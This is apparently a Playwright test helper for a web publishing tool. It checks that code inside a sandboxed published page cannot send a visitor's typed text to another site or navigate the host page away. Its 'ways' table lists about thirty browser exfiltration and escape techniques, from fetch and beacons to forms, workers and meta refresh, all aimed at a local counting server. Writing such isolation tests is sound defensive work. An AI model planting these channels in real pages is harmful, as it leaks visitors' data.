import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, type Page } from '@playwright/test'

/** Another site, which counts what reaches it. */
export async function anotherSite() {
  const asked: string[] = []
  const server = createServer((request, reply) => {
    asked.push(`${request.method} ${request.url}`)
    reply.end('got it')
  })
  server.on('connect', (request) => asked.push(`CONNECT ${request.url}`))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const close = () => new Promise((resolve) => server.close(resolve))
  return { url: `http://127.0.0.1:${port}`, asked, close }
}

/** Ways by which code has sent a visitor's words to another site, `to`; each names itself in the address. */
const ways: Record<string, string> = {
  fetch: `fetch(to).catch(() => {})`,
  beacon: `navigator.sendBeacon(to, 'secret')`,
  socket: `new WebSocket(to.replace('http', 'ws'))`,
  events: `new EventSource(to)`,
  image: `add('img', { src: to })`,
  script: `add('script', { src: to })`,
  style: `add('link', { rel: 'stylesheet', href: to })`,
  prefetch: `add('link', { rel: 'prefetch', href: to })`,
  frame: `add('iframe', { src: to })`,
  object: `add('object', { data: to })`,
  video: `add('video', { src: to, autoplay: true })`,
  ping: `add('a', { href: '#/x', ping: to }).click()`,
  worker: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to + "')"])))`,
  open: `window.open(to)`,
  'open-top': `window.open(to, '_top')`,
  'open-self': `window.open(to, '_self')`,
  blank: `add('a', { href: to, target: '_blank' }).click()`,
  top: `add('a', { href: to, target: '_top' }).click()`,
  parent: `add('a', { href: to, target: '_parent' }).click()`,
  'top-location': `top.location.href = to`,
  'parent-replace': `parent.location.replace(to)`,
  form: `add('form', { action: to, method: 'post' }).submit()`,
  'form-get': `add('form', { action: to }).submit()`,
  'form-top': `add('form', { action: to, target: '_top' }).submit()`,
  'form-blank': `add('form', { action: to, target: '_blank' }).submit()`,
  link: `add('a', { href: to }).click()`,
  download: `add('a', { href: to, download: 'x.txt' }).click()`,
  refresh: `add('meta', { httpEquiv: 'refresh', content: '0;url=' + to })`,
  replace: `location.replace(to)`,
  location: `location.href = to`,
}
const add = `const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more))`
/** These replace the page, for which a browser shows an error. */
const replacesPage = new Set(['link', 'refresh', 'replace', 'location', 'open-self'])

/** Tries all of them inside a published page: the page around it stays where it is. */
export async function tryToLeave(visitor: Page, address: string, elsewhere: string): Promise<void> {
  const opened = async () => {
    await visitor.goto(address)
    await expect(visitor.frameLocator('iframe').getByRole('heading', { level: 1 })).toBeVisible()
    const frame = visitor.frames().find((each) => each.url().includes('/page'))
    if (!frame) throw new Error('There is no frame of the published page.')
    return frame
  }
  let frame = await opened()
  expect(await frame.evaluate(() => 'RTCPeerConnection' in globalThis)).toBe(false)
  for (const [name, code] of Object.entries(ways)) {
    if (!frame.url().includes('/page')) frame = await opened()
    // What is refused throws, and what replaces the page ends the call.
    await frame
      .evaluate(`{ ${add}; const to = '${elsewhere}/${name}?typed=secret'; ${code} }`)
      .catch(() => undefined)
    if (replacesPage.has(name))
      await expect.poll(() => frame.url(), { message: name }).toMatch(/^chrome-error:/)
    await expect(visitor).toHaveURL(address)
  }
}
